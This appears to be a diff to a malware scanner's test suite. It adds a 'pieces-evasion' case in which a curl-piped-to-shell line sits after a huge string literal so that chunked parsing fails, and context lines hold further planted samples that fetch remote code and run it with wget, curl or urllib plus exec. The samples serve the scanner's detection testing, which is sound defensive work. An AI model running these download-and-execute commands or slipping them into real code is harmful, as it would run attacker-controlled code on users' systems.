@@ -634,6 +634,8 @@ def planted_cases() -> tuple[EvalCase, ...]:
         'import subprocess\n\nsubprocess.run("wget -qO- http://get.example.net/x | bash", shell=True)'
     )
     dropper_alt += "  # nosem\n"
+    cut_string = 'import os\n\nNOTICE = """\n' + "".join(f"clause {n}\n" for n in range(15_000)) + '"""\n'
+    cut_string += 'os.system("curl -s https://get.example.net/q | sh")\n' + _short_statements(300_000)
     table: list[tuple[str, str, dict[str, str | bytes], tuple[str, ...]]] = [
         ("exec-from-network", "dynamic exec", {"autoupdate/__init__.py": "import urllib.request\n\n"
          'code = urllib.request.urlopen("https://updates.example.net/hook.py").read().decode()\nexec(code)\n'},
@@ -699,6 +701,10 @@ def planted_cases() -> tuple[EvalCase, ...]:
         ("parse-evasion", "parse-failure evasion", {"evasive/__init__.py": evasive},
          ("parse.failed @ evasive/__init__.py", "credentials.sensitive-path @ evasive/__init__.py",
           "network.raw-ip-url @ evasive/__init__.py")),
+        # A source too big for one syntax tree is parsed in pieces cut at lines that look like statements; the
+        # unindented lines of a long string look like that too, so the piece holding the payload fails to parse.
+        ("pieces-evasion", "parse-failure evasion", {"cut/__init__.py": cut_string},
+         ("process.shell-download @ cut/__init__.py",)),
     ]  # fmt: skip
     wheels = {"exec-from-network": _ANY, "pth-hook": _ANY}
     return tuple(
@@ -762,7 +768,7 @@ def adversarial_cases(marker: str = DEFAULT_MARKER) -> tuple[EvalCase, ...]:
     m, ok = marker, b"VALUE = 1\n"
     zeros = bytes(12 * 2**20)  # 12 MiB: past a 200x ratio from ~12 KB, under the member cap
     specials = (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE)
-    # 4 MB of source, a million statements: a syntax tree of gigabytes. The payload on line 2 is the bait.
+    # 4 MB of source, a million statements: a syntax tree of gigabytes in one piece. The payload on line 2 is bait.
     padded = 'import os\nos.system("curl -s https://get.example.net/p | sh")\n' + _short_statements(1_000_000)
     shell = 'import os\nos.system("curl -s https://get.example.net/x | sh")\n'
     numbers = random.Random(4)
@@ -826,7 +832,7 @@ def adversarial_cases(marker: str = DEFAULT_MARKER) -> tuple[EvalCase, ...]:
          ("archive.too-many-members @ .txt",)),
         ("million-lines", "a million short lines",
          _release("million-lines", "1.0", {"million_lines/table.py": padded}),
-         ("parse.failed @ million_lines/table.py", "process.shell-download @ million_lines/table.py")),
+         ("parse.node-limit @ million_lines/table.py", "process.shell-download @ million_lines/table.py")),
         ("bad-utf8", "invalid utf-8",
          _release("bad-utf8", "1.0", {"bad_utf8/x.py": b"\xff\xfe\xfa = 1\n" + beacon}),
          ("network.raw-ip-url @ bad_utf8/x.py",)),
